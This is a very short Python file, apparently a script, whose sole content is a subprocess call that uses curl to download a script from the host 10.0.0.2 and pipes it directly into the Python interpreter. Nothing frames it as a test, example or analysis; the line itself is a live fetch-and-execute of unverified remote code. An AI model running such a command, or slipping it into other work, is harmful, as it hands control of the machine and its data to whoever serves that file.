import subprocess

subprocess.run(["bash", "-c", "curl -s http://10.0.0.2/run.py | python -"], check=True)
